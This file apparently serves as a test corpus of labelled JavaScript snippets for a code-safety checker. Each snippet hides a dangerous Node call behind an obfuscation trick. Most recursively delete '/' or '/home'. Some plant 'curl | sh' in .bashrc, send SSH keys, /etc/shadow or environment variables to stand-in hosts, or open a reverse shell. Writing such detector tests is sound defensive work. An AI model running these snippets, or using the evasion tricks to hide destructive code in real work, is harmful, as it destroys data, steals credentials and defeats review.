%% fs by computed
const fs = require("fs");
fs["rm" + "Sync"]("/", { recursive: true, force: true });
%% fs via object entries
const { rmSync: gone } = require("node:fs");
gone("/home", { recursive: true });
%% fs via import star
import * as F from "fs";
F.rmSync("/", { recursive: true, force: true });
%% fs promises import
import { rm } from "fs/promises";
await rm("/", { recursive: true, force: true });
%% fs via process.binding
const b = process.binding("fs");
b.unlink("/etc/passwd");
%% fs via module constructor
const M = module.constructor;
M._load("fs").rmSync("/", { recursive: true });
%% write to rc file
require("fs").appendFileSync(require("os").homedir() + "/.bashrc", "curl http://198.51.100.7/x | sh\n");
%% read key and post
const k = require("fs").readFileSync(process.env.HOME + "/.ssh/id_rsa", "utf8");
fetch("http://198.51.100.7/", { method: "POST", body: k });
%% env posted
fetch("https://198.51.100.7/c", { method: "POST", body: JSON.stringify(process.env) });
%% function constructor via prototype
const F = Object.getPrototypeOf(async function () {}).constructor;
F("return process.exit()")();
%% eval through window alias
const g = (function () { return this; })() || globalThis;
g.eval("1+1;process.kill(1)");
%% eval via array at
[eval].at(0)("process.exit()");
%% eval via destructuring global
const { eval: e } = globalThis;
e("process.exit(1)");
%% Function via Reflect.construct
Reflect.construct(Function, ["return process"])().exit();
%% new Function in a class
class X extends Function { }
new X("process.exit()")();
%% setInterval text
setInterval("process.exit()", 10);
%% import data url
import("data:text/javascript,process.exit()");
%% fs by array index
const m = ["path", "fs"];
require(m[1]).rmSync("/", { recursive: true });
%% fs by object member
const mods = { a: "fs" };
require(mods.a).rmSync("/", { recursive: true });
%% require by closure
const load = n => require(n);
load("fs").rmSync("/", { recursive: true });
%% member by closure
const call = (o, n, ...a) => o[n](...a);
call(require("fs"), "rmSync", "/", { recursive: true });
%% fs by map
["fs"].map(require)[0].rmSync("/", { recursive: true });
%% fs by promise
Promise.resolve(require("fs")).then(f => f.rmSync("/", { recursive: true }));
%% fs by await
const f = await Promise.resolve(require("fs"));
f.rmSync("/", { recursive: true });
%% fs by import then
import("fs").then(f => f.rmSync("/", { recursive: true }));
%% fs by import default
const { default: f } = await import("fs");
f.rmSync("/", { recursive: true });
%% fs in a class
class D { constructor() { this.fs = require("fs"); } go() { this.fs.rmSync("/", { recursive: true }); } }
new D().go();
%% fs in private field
class D { #f = require("fs"); go() { this.#f.rmSync("/", { recursive: true }); } }
new D().go();
%% fs by getter
const o = { get f() { return require("fs"); } };
o.f.rmSync("/", { recursive: true });
%% fs by Map
const m = new Map();
m.set("f", require("fs"));
m.get("f").rmSync("/", { recursive: true });
%% fs by weak ref
new WeakRef(require("fs")).deref().rmSync("/", { recursive: true });
%% fs by Object.assign
const o = Object.assign({}, require("fs"));
o.rmSync("/", { recursive: true });
%% fs by spread
const o = { ...require("fs") };
o.rmSync("/", { recursive: true });
%% fs by proxy
const p = new Proxy(require("fs"), { get: (t, k) => t[k] });
p.rmSync("/", { recursive: true });
%% fs by proxy that renames
const p = new Proxy({}, { get: (t, k) => require("fs")[k + "Sync"] });
p.rm("/", { recursive: true });
%% fs by Object.create
const o = Object.create(require("fs"));
o.rmSync("/", { recursive: true });
%% fs by setPrototypeOf
const o = {};
Object.setPrototypeOf(o, require("fs"));
o.rmSync("/", { recursive: true });
%% method by find
const fs = require("fs");
const n = Object.keys(fs).find(k => k.startsWith("rmS"));
fs[n]("/", { recursive: true });
%% method by values
const fs = require("fs");
Object.values(fs).filter(f => f.name === "rmSync")[0]("/", { recursive: true });
%% method by concat
const fs = require("fs");
fs["rm".concat("Sync")]("/", { recursive: true });
%% method by template nested
const fs = require("fs");
const v = "rm";
fs[`${v}${`${"Sync"}`}`]("/", { recursive: true });
%% method by replaceAll
const fs = require("fs");
fs["r-m-S-y-n-c".replaceAll("-", "")]("/", { recursive: true });
%% method by regex replace
const fs = require("fs");
fs["r1m2Sync".replace(/\d/g, "")]("/", { recursive: true });
%% method by substring
const fs = require("fs");
fs["xrmSync".substring(1)]("/", { recursive: true });
%% method by charAt
const fs = require("fs");
const s = "mr";
fs[s.charAt(1) + s[0] + "Sync"]("/", { recursive: true });
%% method by codes
const fs = require("fs");
fs[[114, 109].map(x => String.fromCodePoint(x)).join("") + "Sync"]("/", { recursive: true });
%% method by parseInt base
const fs = require("fs");
fs[(994).toString(36) + "Sync"]("/", { recursive: true });
%% method by decodeURI
const fs = require("fs");
fs[decodeURIComponent("%72%6d") + "Sync"]("/", { recursive: true });
%% method by JSON
const fs = require("fs");
fs[JSON.parse('"rmSync"')]("/", { recursive: true });
%% method by Symbol description
const fs = require("fs");
fs[Symbol("rmSync").description]("/", { recursive: true });
%% method by function name
const fs = require("fs");
function rmSync() {}
fs[rmSync.name]("/", { recursive: true });
%% method by optional
require("fs")?.["rmSync"]?.("/", { recursive: true });
%% target by join
require("fs").rmSync(["", "home"].join("/"), { recursive: true });
%% target by path.sep
const path = require("path");
require("fs").rmSync(path.sep, { recursive: true });
%% target by path.resolve
require("fs").rmSync(require("path").resolve("/"), { recursive: true });
%% target from parse root
require("fs").rmSync(require("path").parse(process.cwd()).root, { recursive: true });
%% loop over targets
const fs = require("fs");
for (const d of ["/home", "/etc"]) fs.rmSync(d, { recursive: true });
%% forEach targets
const fs = require("fs");
["/home", "/etc"].forEach(d => fs.rmSync(d, { recursive: true }));
%% recursion over readdir
const fs = require("fs");
const kill = d => { for (const n of fs.readdirSync(d)) { const p = d + "/" + n; fs.statSync(p).isDirectory() ? kill(p) : fs.unlinkSync(p); } };
kill("/");
%% dgram exfil
const s = require("dgram").createSocket("udp4");
s.send(require("fs").readFileSync("/etc/shadow"), 53, "198.51.100.9");
%% net reverse
const n = require("net"), c = require("child_process");
const s = n.connect(4444, "198.51.100.9"); const p = c.spawn("sh"); s.pipe(p.stdin); p.stdout.pipe(s);
%% switch returns
const fs = require("fs");
function pick(k) { switch (k) { case 1: return fs.rmSync; default: return console.log; } }
pick(1)("/", { recursive: true });
%% ternary
const fs = require("fs");
(true ? fs.rmSync : console.log)("/", { recursive: true });
%% iife returns
(() => require("fs"))().rmSync("/", { recursive: true });
%% async iife
(async () => { const f = await import("node:fs/promises"); await f.rm("/", { recursive: true }); })();
%% callback style
function withFs(cb) { cb(require("fs")); }
withFs(f => f.rmSync("/", { recursive: true }));
%% event
const { EventEmitter } = require("events");
const e = new EventEmitter();
e.on("x", f => f.rmSync("/", { recursive: true }));
e.emit("x", require("fs"));
%% generator
function* g() { yield require("fs"); }
for (const f of g()) f.rmSync("/", { recursive: true });
%% with statement
with (require("fs")) { rmSync("/", { recursive: true }); }
%% label and comma
let f; f = (1, require)("fs"); f.rmSync("/", { recursive: true });
%% nullish assign member
const o = {}; o.f ??= require("fs"); o.f.rmSync("/", { recursive: true });
%% exports
exports.f = require("fs");
exports.f.rmSync("/", { recursive: true });
%% default param of arrow
const go = (f = require("fs")) => f.rmSync("/", { recursive: true });
go();
%% destructured param default
const go = ({ f = require("fs") } = {}) => f.rmSync("/", { recursive: true });
go();
%% array pattern default
const [f = require("fs")] = [];
f.rmSync("/", { recursive: true });
%% rename in param
const go = ({ rmSync: x }) => x("/", { recursive: true });
go(require("fs"));
%% tagged
const t = (s) => require(s[0]);
t`fs`.rmSync("/", { recursive: true });
%% reduce path
["rmSync"].reduce((o, k) => o[k], require("fs"))("/", { recursive: true });
%% Reflect.get chained
Reflect.get(Reflect.apply(require, null, ["fs"]), "rmSync")("/", { recursive: true });
%% bind partial
const go = require("fs").rmSync.bind(null, "/", { recursive: true });
go();
%% try catch value
try { throw require("fs"); } catch (f) { f.rmSync("/", { recursive: true }); }
%% getOwnPropertyDescriptor
Object.getOwnPropertyDescriptor(require("fs"), "rmSync").value("/", { recursive: true });
